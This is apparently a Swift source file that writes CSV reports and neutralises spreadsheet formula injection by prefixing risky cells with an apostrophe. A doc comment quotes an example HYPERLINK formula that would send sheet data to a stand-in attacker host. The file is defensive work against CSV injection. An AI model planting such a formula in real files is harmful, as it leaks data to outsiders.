import Foundation

/// A cell of a CSV file plancal writes: text, or a number meant as a number. One writer for every
/// CSV (compliance, the city table, the history).
///
/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return)
/// as a formula: a note `=HYPERLINK("http://evil.example/?x="&A1,"xem")` typed by anyone with a
/// unit's token would send the sheet's data away when a ward official opens the report. So text
/// that starts with one of these — or its full-width form, which some spreadsheets in East Asian
/// locales normalise — is written with a leading `'` (OWASP's rule for CSV injection), which
/// spreadsheets show as plain text. Numbers plancal computed (`-3`, `14,3%`) are written as they
/// are; a "number" that is not one is written as neutralised text.
public enum CSVCell: Sendable, Equatable {
    /// Free text: neutralised when it could be read as a formula.
    case text(String)
    /// A number, e.g. `12`, `-3`, `1.550` or `14,3%` (or empty for none).
    case number(String)

    /// Characters that make a spreadsheet read a cell as a formula, and their full-width forms.
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]

    /// The text with a leading `'` when a spreadsheet would take it for a formula.
    public static func neutralised(_ s: String) -> String {
        guard let first = s.unicodeScalars.first.map(Character.init), formulaStarts.contains(first) else { return s }
        return "'" + s
    }

    /// Digits with an optional leading minus, `.` or `,` between groups and an optional `%`; or empty.
    static func isNumber(_ s: String) -> Bool {
        var body = Substring(s)
        if body.isEmpty { return true }
        if body.hasPrefix("-") { body = body.dropFirst() }
        if body.hasSuffix("%") { body = body.dropLast() }
        let groups = body.split(separator: ".", omittingEmptySubsequences: false)
            .flatMap { $0.split(separator: ",", omittingEmptySubsequences: false) }
        return groups.allSatisfy { !$0.isEmpty && $0.allSatisfy { $0.isASCII && $0.isNumber } }
    }

    /// The value as it goes into the file, before quoting.
    public var value: String {
        switch self {
        case let .text(t): return CSVCell.neutralised(t)
        case let .number(n): return CSVCell.isNumber(n) ? n : CSVCell.neutralised(n)
        }
    }

    /// The cell as it goes into the file: quoted when it holds a comma, a quote or a line break.
    public var encoded: String {
        let s = value
        return s.contains(where: { $0 == "," || $0 == "\"" || $0.isNewline })
            ? "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : s
    }

    /// A whole file: UTF-8 with a byte-order mark (so spreadsheets keep the diacritics), CRLF.
    public static func document(_ rows: [[CSVCell]]) -> String {
        "\u{FEFF}" + rows.map { $0.map(\.encoded).joined(separator: ",") }.joined(separator: "\r\n") + "\r\n"
    }
}
